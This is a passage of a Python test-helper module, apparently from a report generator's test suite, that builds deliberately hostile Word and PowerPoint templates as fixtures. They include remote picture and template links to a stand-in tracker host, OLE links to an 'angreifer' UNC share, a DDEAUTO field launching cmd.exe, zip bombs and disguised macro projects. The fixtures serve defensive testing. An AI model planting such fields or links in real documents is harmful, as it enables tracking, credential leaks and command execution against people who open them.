    """A template that reaches out when opened: a linked picture on a server, an attached template
    on a server, an OLE link to a UNC path, INCLUDEPICTURE and DDEAUTO fields."""
    koerper = (
        _FREMDES_BILD
        + _OLE
        + _feldabsatz('INCLUDEPICTURE "http://tracker.example.org/p.png" \\\\d', "Bild")
        + _feldabsatz('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"', "Ergebnis")
    )
    _zip_umschreiben(
        quelle,
        ziel,
        {
            "word/document.xml": _in_den_koerper(koerper),
            "word/_rels/document.xml.rels": lambda t: _rel(
                _rel(t, "rIdFremd1", "image", "http://tracker.example.org/logo.png"),
                "rIdFremd3",
                "oleObject",
                "file://///angreifer/freigabe/tabelle.xlsx",
            ),
            "word/settings.xml": _vorlage_anhaengen,
            "word/_rels/settings.xml.rels": lambda t: _rel(
                t, "rIdFremd2", "attachedTemplate", "http://tracker.example.org/vorlage.dotx"
            ),
        },
    )


def vorlage_mit_dtd(quelle: Path, ziel: Path, teil: str = "word/styles.xml") -> None:
    """A template whose `teil` declares an entity (harmless, never resolved)."""
    _zip_umschreiben(
        quelle,
        ziel,
        {teil: lambda t: t.replace("?>", '?><!DOCTYPE x [<!ENTITY e "Entität">]>', 1)},
    )


def vorlage_als_bombe(quelle: Path, ziel: Path, mib: int = 64) -> None:
    """A template with a picture part that inflates from a few KiB to `mib` MiB."""
    _zip_umschreiben(quelle, ziel, {}, {"word/media/riesig.png": bytes(mib * 2**20)})


def vorlage_mit_makros(quelle: Path, ziel: Path) -> None:
    """A copy of `quelle` declared macro-enabled (.docm content type)."""
    _zip_umschreiben(
        quelle,
        ziel,
        {
            "[Content_Types].xml": lambda t: t.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )


def vorlage_mit_vba(quelle: Path, ziel: Path) -> None:
    """A copy of the Word file `quelle` carrying a VBA project, its content type left as .docx."""
    _mit_vba(quelle, ziel, "word")


def vorlage_mit_fremdinhalt(quelle: Path, ziel: Path) -> None:
    """A Word template importing an HTML chunk (w:altChunk, aFChunk) whose picture is on a server."""
    html = b'<html><body><p>Fremdinhalt</p><img src="http://tracker.example.org/chunk.png"></body></html>'
    _zip_umschreiben(
        quelle,
        ziel,
        {
            "word/document.xml": _in_den_koerper('<w:altChunk r:id="rIdChunk1"/>'),
            "word/_rels/document.xml.rels": lambda t: t.replace(
                "</Relationships>",
                f'<Relationship Id="rIdChunk1" Type="{_R}/aFChunk" Target="fremd.htm"/></Relationships>',
            ),
            "[Content_Types].xml": lambda t: t.replace(
                "</Types>", '<Override PartName="/word/fremd.htm" ContentType="text/html"/></Types>'
            ),
        },
        {"word/fremd.htm": html},
    )


# --- hostile slide templates (made from a real one by rewriting its zip) -------------------------

_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
INHALTSLAYOUT = "ppt/slideLayouts/slideLayout2.xml"
"""The "Title and Content" layout of the package's folien.pptx."""


def _ins_layout(xml: str):
    """Append `xml` to the shape tree of a layout (declaring r: where it is not yet)."""

    def tun(text: str) -> str:
        if 'xmlns:r="' not in text.split(">", 2)[1]:
            text = text.replace("<p:sldLayout ", f'<p:sldLayout xmlns:r="{_R}" ', 1)
        return text.replace("</p:spTree>", xml + "</p:spTree>", 1)

    return tun


def _layout_rels(rid: str, typ: str, ziel: str, layout: str = INHALTSLAYOUT):
    ordner, name = layout.rsplit("/", 1)
    return {f"{ordner}/_rels/{name}.rels": lambda t: _rel(t, rid, typ, ziel)}


def folien_mit_verknuepftem_bild(quelle: Path, ziel: Path) -> None:
    """A slide template whose content layout shows a picture linked from a server."""
    bild = (
        f'<p:pic xmlns:p="{_P}" xmlns:a="{_A}"><p:nvPicPr><p:cNvPr id="90" name="Logo" descr="Logo"/>'
        '<p:cNvPicPr/><p:nvPr userDrawn="1"/></p:nvPicPr>'
        '<p:blipFill><a:blip r:link="rIdFremd1"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
        '<p:spPr><a:xfrm><a:off x="100000" y="100000"/><a:ext cx="914400" cy="365760"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
    )
    _zip_umschreiben(
        quelle,
        ziel,
        {
            INHALTSLAYOUT: _ins_layout(bild),
            **_layout_rels("rIdFremd1", "image", "http://tracker.example.org/logo.png"),
        },
    )


def folien_mit_ole_verknuepfung(quelle: Path, ziel: Path) -> None:
    """A slide template whose content layout holds an OLE object linked to a UNC path, updated
    automatically when the deck is opened."""
    ole = (
        f'<p:graphicFrame xmlns:p="{_P}" xmlns:a="{_A}"><p:nvGraphicFramePr><p:cNvPr id="91" name="Tabelle"/>'
        "<p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>"
        '<p:xfrm><a:off x="100000" y="600000"/><a:ext cx="1828800" cy="914400"/></p:xfrm>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        '<p:oleObj name="Arbeitsblatt" r:id="rIdFremd2" imgW="1828800" imgH="914400" progId="Excel.Sheet.12">'
        '<p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
    )
    _zip_umschreiben(
        quelle,
        ziel,
        {
            INHALTSLAYOUT: _ins_layout(ole),
            **_layout_rels("rIdFremd2", "oleObject", "file://///angreifer/freigabe/tabelle.xlsx"),
        },
    )


def folien_mit_vorlage_anderswo(quelle: Path, ziel: Path) -> None:
    """A slide template that names an attached template on a server."""
    _zip_umschreiben(
        quelle,
        ziel,
        {
            "ppt/_rels/presentation.xml.rels": lambda t: _rel(
                t, "rIdFremd3", "attachedTemplate", "http://tracker.example.org/vorlage.potx"
            )
        },
    )


def _mit_vba(quelle: Path, ziel: Path, ordner: str, makro_typ: tuple[str, str] | None = None) -> None:
    rels = f"{ordner}/_rels/{'document' if ordner == 'word' else 'presentation'}.xml.rels"
    aendern = {
        rels: lambda t: t.replace(
            "</Relationships>",
            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>',
        ),
        "[Content_Types].xml": lambda t: t.replace(
            "</Types>",
            f'<Override PartName="/{ordner}/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
    }
    if makro_typ is not None:
        alt, neu = makro_typ
        vorher = aendern["[Content_Types].xml"]
        aendern["[Content_Types].xml"] = lambda t: vorher(t).replace(alt, neu)
    _zip_umschreiben(quelle, ziel, aendern, {f"{ordner}/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA" * 64})


def folien_als_pptm(quelle: Path, ziel: Path) -> None:
    """A macro-enabled presentation (.pptm) renamed .pptx: a VBA project and PowerPoint's macro
    content type."""
    _mit_vba(
        quelle,
        ziel,
        "ppt",
        (
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        ),
    )


def folien_ohne_platzhalterlage(quelle: Path, ziel: Path) -> None:
    """A slide template whose master body placeholder has no position and size (the content
    layout's placeholder inherits nothing)."""

    def ohne_lage(text: str) -> str:
        kopf, rest = text.split('<p:ph type="body" idx="1"/>', 1)
        anfang, ende = rest.index("<a:xfrm>"), rest.index("</a:xfrm>") + len("</a:xfrm>")
        return kopf + '<p:ph type="body" idx="1"/>' + rest[:anfang] + rest[ende:]

    _zip_umschreiben(quelle, ziel, {"ppt/slideMasters/slideMaster1.xml": ohne_lage})


def paket_als_bombe(quelle: Path, ziel: Path, teil: str, mib: int = 64) -> None:
    """A copy of an Office package with a part `teil` that inflates from a few KiB to `mib` MiB."""
    _zip_umschreiben(quelle, ziel, {}, {teil: bytes(mib * 2**20)})


def modul_hinzufuegen(projekt: Path, name: str, text: str) -> None:
    """Write a Python file of the project's functions and add it to `module` in berichtsgen.toml."""
    (projekt / name).write_text(text, encoding="utf-8")
    toml = projekt / "berichtsgen.toml"
    inhalt = toml.read_text(encoding="utf-8")
    assert '["rechnen.py"' in inhalt
    toml.write_text(inhalt.replace('["rechnen.py"', f'["rechnen.py", "{name}"', 1), encoding="utf-8")


ECHTE_EXPORTE = REPO.parent / "shared" / "fixtures" / "statistik"
"""Real exports of statistics offices and municipal open data (SOURCES.md there)."""


def export_projekt(ordner: Path, datei: str, blatt: str = "", titel: str = "Test") -> Path:
    """Write a project under `ordner` holding only the real export `datei` and the one table
    `return k.daten(datei)` (of the sheet `blatt`); return its folder."""
    import shutil

    projekt = ordner / "projekt"
    (projekt / "inhalte" / "2024" / "daten").mkdir(parents=True)
    shutil.copy(ECHTE_EXPORTE / datei, projekt / "inhalte" / "2024" / "daten" / datei)
    (projekt / "berichtsgen.toml").write_text(
        f'[bericht]\ntitel = "{titel}"\nmodule = ["rechnen.py"]\n\n[jahr.2024]\n', encoding="utf-8"
    )
    (projekt / "rechnen.py").write_text(
        "from berichtsgen import tabelle\n\n\n@tabelle('export', titel='Export')\n"
        f"def export(k):\n    return k.daten({datei!r}{f', {blatt!r}' if blatt else ''})\n",
        encoding="utf-8",
    )
    return projekt


def aus_export_berechnen(tmp_path: Path, datei: str):
    """Build the table `return k.daten(datei)` of a project holding only the real export `datei`;
    return the finished table and the file's record (`Herkunft`)."""
    from berichtsgen.berechnung.kontext import Berechnung
    from berichtsgen.berechnung.register import module_laden
    from berichtsgen.fehler import Ort
    from berichtsgen.inhalt.modell import Optionen
    from berichtsgen.projekt import projekt_laden

    projekt = export_projekt(tmp_path, datei)
    p = projekt_laden(projekt, 2024)
    berechnung = Berechnung(p, module_laden([projekt / "rechnen.py"], projekt))
    fertig = berechnung.tabelle("export", Optionen(), Ort())
    return fertig, berechnung.lager.alle_dateien[f"inhalte/2024/daten/{datei}"]


KT_BERN = TESTS / "vorlagen" / "fremd" / "kt-bern-brief.docx"
"""A real cantonal letter template (Kanton Bern, inosca/ebau, EUPL-1.2): logo in header and footer,
"Seite X/Y" with NUMPAGES inside a text box of its footer (origin in tests/vorlagen/fremd/SOURCES.md)."""


DOCX4J_STYLEREF = TESTS / "vorlagen" / "fremd" / "docx4j-stylref.docx"
"""A real Word file (plutext/docx4j, Apache-2.0) whose header names its heading styles by their
aliases: STYLEREF "h1,Level 1 Topic Heading" (simple fields)."""


def brief_als_berichtsvorlage(quelle: Path, ziel: Path, numpages_komplex: bool = False) -> None:
    """Write a copy of the letter template `quelle` as a report template: its body is only the
    placeholder `{{p inhalt }}` (the letter's own placeholders use filters of its own program),
    headers and footers stay as they are. With `numpages_komplex` the footer's NUMPAGES
    (w:fldSimple) becomes a complex field (begin, instruction, separate, result, end), as Word
    writes it once the field was edited."""

    def koerper(text: str) -> str:
        anfang = text.index("<w:body>") + len("<w:body>")
        schluss = text.rindex("<w:sectPr")
        return text[:anfang] + "<w:p><w:r><w:t>{{p inhalt }}</w:t></w:r></w:p>" + text[schluss:]

    def fusszeile(text: str) -> str:
        einfach = re.compile(r'<w:fldSimple w:instr="( NUMPAGES[^"]*)">(.*?)</w:fldSimple>', re.S)
        assert einfach.search(text), "die Fußzeile hat kein NUMPAGES"
        return einfach.sub(
            lambda m: (
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                f'<w:r><w:instrText xml:space="preserve">{m.group(1)}</w:instrText></w:r>'
                f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{m.group(2)}'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            ),
            text,
        )

    aendern = {"word/document.xml": koerper}
    if numpages_komplex:
        aendern["word/footer1.xml"] = fusszeile
    _zip_umschreiben(quelle, ziel, aendern)
